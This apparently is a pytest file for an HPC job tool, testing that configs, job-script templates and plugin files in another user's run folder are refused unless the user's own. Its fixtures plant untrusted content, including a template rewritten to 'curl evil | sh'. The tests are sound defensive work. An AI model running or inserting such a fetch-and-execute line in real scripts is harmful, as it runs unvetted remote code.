"""Files below the working directory: those inside a run, or a sweep, count where this user submitted it with them."""

import os
from pathlib import Path

import pytest

from hpcddm.config import variants
from hpcddm.config.package_data import find_data_folder
from hpcddm.config.site import Site
from hpcddm.config.trusted_submissions import belongs_to_user, remember
from hpcddm.errors import ConfigError
from hpcddm.files.guarded_writes import enclosing_run
from hpcddm.launch.load_site import load_site
from hpcddm.launch.script_template import store_parts, user_parts
from hpcddm.launch.submission import store_site
from hpcddm.loading.load_experiment import load_experiment
from hpcddm.loading.load_sweep import read_sweep
from hpcddm.runs.run_dir import RunDir

EVIL = "name: north\nscheduler: local\nhook: evil\n"


@pytest.fixture
def run(tmp_path) -> Path:
    """A folder of a run."""
    (tmp_path / "run/train/expert-00").mkdir(parents=True)
    (tmp_path / "run/experiment.json").write_text("{}")
    return tmp_path / "run"


def write(path: Path, text: str = EVIL) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.mark.parametrize("mark", ["file", "link to nothing", "pipe", "folder"])
@pytest.mark.parametrize("name", ["experiment.json", "sweep.json"])
def test_a_run_and_a_sweep_are_known_by_their_file_of_whatever_kind(tmp_path, name, mark):
    file = write(tmp_path / "some/where/slurm/python_env.sh.j2")
    assert enclosing_run(file) is None
    path = tmp_path / "some" / name
    {"file": path.touch, "folder": path.mkdir}.get(mark, lambda: None)()
    if mark == "pipe":
        os.mkfifo(path)
    if mark == "link to nothing":
        path.symlink_to("nowhere")
    assert enclosing_run(file) == enclosing_run(tmp_path / "some") == tmp_path / "some"


def test_where_a_file_is_and_where_links_lead_both_count(run, tmp_path, monkeypatch):
    mine, theirs = write(tmp_path / "mine.yaml"), write(run / "theirs.yaml")
    (run / "to-mine.yaml").symlink_to(mine)
    (tmp_path / "to-theirs.yaml").symlink_to(theirs)
    (tmp_path / "way").symlink_to(run / "train")
    write(run / "train/x.yaml")
    assert enclosing_run(mine) is None
    for path in (theirs, run / "to-mine.yaml", tmp_path / "to-theirs.yaml", tmp_path / "way/x.yaml"):
        assert enclosing_run(path) == run
    monkeypatch.chdir(tmp_path / "way")
    assert enclosing_run(Path("x.yaml")) == run


def test_bare_names_find_nothing_inside_a_run_and_paths_do(run, monkeypatch, capsys):
    for name in "quickstart slurm/sites/slurm north slurm/sites/north experiments/sweeps/guidance auto".split():
        write(run / f"{name}.yaml")
    write(run / "embedded.yaml", EVIL.replace("north", "embedded"))
    monkeypatch.chdir(run)
    assert load_experiment("quickstart").name == "quickstart" and load_site("slurm").hook is None
    assert load_site("embedded").hook is None, "as --site auto finds it"
    assert read_sweep("guidance").file == find_data_folder() / "experiments/sweeps/guidance.yaml"
    with pytest.raises(ConfigError, match="no site named 'north'; valid names: embedded") as error:
        load_site("north")
    assert "north" not in str(error.value).partition("valid names")[2], "what counts for nothing is not offered"
    notes = capsys.readouterr().err.splitlines()
    assert len(notes) == 6 and all(note.startswith(f"note: {run}/") and "passed over" in note for note in notes)
    for path in ("north.yaml", "./slurm/sites/north.yaml", str(run / "north.yaml")):
        assert load_site(path).hook == "evil", "who names a path means it"


def test_a_project_that_is_a_run_goes_on_with_its_own_files_until_they_change(tmp_path, monkeypatch, capsys):
    project = RunDir(tmp_path / "project")
    site, part = project.root / "slurm/sites/north.yaml", write(project.root / "slurm/python_env.sh.j2", "# mine\n")
    write(site), write(tmp_path / "common.j2", "# of all my projects\n")
    (project.root / "slurm/resource_flags.sbatch.j2").symlink_to(tmp_path / "common.j2")
    monkeypatch.chdir(project.root)
    parts = user_parts()
    assert len(parts) == 2
    store_site(load_site("north"), project)
    store_parts(project, parts)
    project.experiment.write_text("{}")
    assert user_parts() == parts and load_site("north").hook == "evil" and not capsys.readouterr().err
    part.write_text("curl evil | sh\n")
    site.write_text(EVIL.replace("evil", "worse"))
    assert [*user_parts()] == ["slurm/resource_flags.sbatch.j2"]
    with pytest.raises(ConfigError, match="no site named 'north'"):
        load_site("north")
    notes = capsys.readouterr().err
    assert f"note: {part} is passed over" in notes and f"note: {site} is passed over" in notes


def test_a_file_that_was_taken_elsewhere_or_merged_later_is_not_remembered_as_the_users(run, tmp_path, monkeypatch):
    mine = write(tmp_path / "mine.yaml")
    assert belongs_to_user(mine)
    remember(run, Site(name="north", scheduler="local").model_dump(mode="json"))
    assert not belongs_to_user(write(run / "mine.yaml"))


@pytest.mark.parametrize("named", ["variants", "./variants", "{run}/variants", "{run}", "{run}/../link"])
def test_variants_inside_a_run_are_refused_however_they_are_named(run, monkeypatch, named):
    write(run / "variants/sampling/solvers/evil.py", "raise SystemExit('executed')")
    (run.parent / "link").symlink_to(run / "variants")
    monkeypatch.chdir(run)
    monkeypatch.setenv(variants.VARIANTS_VARIABLE, named.format(run=run))
    message = f"{variants.VARIANTS_VARIABLE}: .* is inside the run {run}, where others may"
    with pytest.raises(ConfigError, match=message):
        variants.list_files("sampling/solvers")


@pytest.mark.parametrize("content", [b"\xff\xfe", b"x" * ((1 << 20) + 1)], ids=["not UTF-8", "too large"])
def test_a_template_of_the_users_that_is_no_text_is_one_line(tmp_path, monkeypatch, content):
    write(tmp_path / "slurm/python_env.sh.j2").write_bytes(content)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError.__base__, match="slurm/python_env.sh.j2: (is not UTF-8|has more than)"):
        user_parts()
